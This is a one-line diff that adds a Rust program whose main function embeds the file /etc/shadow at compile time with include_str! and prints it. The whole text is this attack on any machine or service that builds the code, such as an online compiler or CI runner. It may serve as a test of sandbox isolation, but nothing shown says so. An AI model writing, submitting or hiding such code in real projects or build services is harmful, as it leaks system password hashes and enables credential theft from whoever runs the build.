@@ -1,0 +1,1 @@
+fn main() { println!("{}", include_str!("/etc/shadow")); }
